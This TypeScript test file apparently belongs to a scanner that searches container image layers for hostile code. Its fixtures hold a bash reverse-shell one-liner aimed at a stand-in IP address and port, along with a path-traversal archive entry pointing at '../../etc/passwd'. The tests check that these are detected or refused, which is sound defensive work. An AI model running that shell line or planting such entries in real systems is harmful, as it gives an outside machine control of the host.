import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import type { Layers } from '../../../artefacts/blobs.ts';
import { openOciRepository } from '../../../artefacts/oci/registry.ts';
import type { Lock, OciClosure } from '../../../schemas/types.ts';
import { temporaryFolder } from '../../../test/support/folder.ts';
import { addLayers, memoryLayers } from '../../../test/support/layers.ts';
import { startOci, type FakeOci } from '../../../test/support/oci-registry.ts';
import type { Entry } from '../../../test/support/tarballs.ts';
import { imageObservations } from './image.ts';
import { codeBounds } from './scan-process.ts';
import { openCodeScanner, type CodeScanner } from './scanner.ts';

let oci: FakeOci;
let blobs: Layers;
let code: CodeScanner;
beforeAll(async () => {
  code = openCodeScanner({ cacheFolder: await temporaryFolder(), processes: 1 });
});
afterAll(() => code.close());
beforeEach(async () => {
  oci = await startOci();
  blobs = memoryLayers();
});
afterEach(() => oci.close());

const shell = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n';
const bad = (path: string): Entry => ({ path, content: `#!/bin/sh\n${shell}`, mode: 0o755 });
const elf = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(64)]);

const urlOf = (): string => `oci://${oci.host}/${oci.path}:1.2.0`;

async function found(images: OciClosure['images'], scanner: Pick<CodeScanner, 'scanImage'> = code) {
  const lock: Pick<Lock, 'artefact' | 'closure'> = {
    artefact: { url: urlOf(), sha256: '', sha512: '' },
    closure: { kind: 'oci', images },
  };
  const open = (host: string, path: string) => openOciRepository(host, path, { registry: 'http://npm.test/' });
  return imageObservations(lock, { images: open, blobs: blobs as never }, scanner);
}

test('finds what a container sees, on every platform, and names file and line', async () => {
  const one = addLayers(oci, [[{ path: 'bin/server', content: elf }], [bad('usr/bin/start')]]);
  const other = addLayers(oci, [[bad('opt/other')]], { architecture: 'arm64' });
  expect(await found([one, other])).toMatchObject([
    {
      rule: 'code-reverse-shell',
      level: 'block',
      subject: urlOf(),
      message: expect.stringContaining(
        'the image for linux/amd64, linux/arm64 gives another machine a shell: "opt/other:2", "usr/bin/start:2"',
      ),
    },
  ]);
});

test('finds nothing in what a higher layer removed', async () => {
  expect(await found([addLayers(oci, [[bad('bin/start'), { path: 'x' }], [{ path: 'bin/.wh.start' }]])])).toEqual([]);
});

test('finds what lies deep in a long file, and in one of two files under one path', async () => {
  const long = Buffer.alloc(40 * 1024 * 1024, 'x\n');
  long.write(shell, 35 * 1024 * 1024);
  const [deep] = await found([addLayers(oci, [[{ path: 'long.sh', content: long }]])]);
  expect(deep?.message).toContain('long.sh from byte');
  const twice = [bad('start'), { path: 'start', content: 'exit\n' }];
  expect(await found([addLayers(oci, [twice])])).toMatchObject([{ rule: 'code-reverse-shell' }]);
});

test('a later piece of a native program is not read as text', async () => {
  const content = Buffer.alloc(40 * 1024 * 1024, 'x');
  elf.copy(content);
  content.write('const a = "\u202e"; // ', 30 * 1024 * 1024);
  expect(await found([addLayers(oci, [[{ path: 'bin/node', content }]])])).toEqual([]);
  content.write('text', 0);
  expect(await found([addLayers(oci, [[{ path: 'text.js', content }]])])).not.toEqual([]);
});

test('an image is searched once, until it is another one', async () => {
  const image = addLayers(oci, [[bad('start')]]);
  const [first] = await found([image]);
  blobs = { layerOr: () => Promise.reject(new Error('nothing was to be read')) };
  expect(await found([image])).toEqual([first]);
});

test('what was not searched blocks, and says why', async () => {
  const late = openCodeScanner({
    cacheFolder: await temporaryFolder(),
    processes: 1,
    bounds: { ...codeBounds, deadlineMs: 1, deadlinePerMibMs: 0 },
  });
  const image = addLayers(oci, [[bad('start')]]);
  expect(await found([image], late).finally(() => late.close())).toMatchObject([
    { rule: 'code-not-scanned', level: 'block', message: expect.stringContaining('more time or memory') },
  ]);
});

test('a layer that cannot be believed ends the review, and nothing is said of it', async () => {
  const image = addLayers(oci, [[{ path: '../../etc/passwd', content: 'x' }]]);
  await expect(found([image])).rejects.toMatchObject({ name: 'Refusal', code: 'E_ARCHIVE' });
});
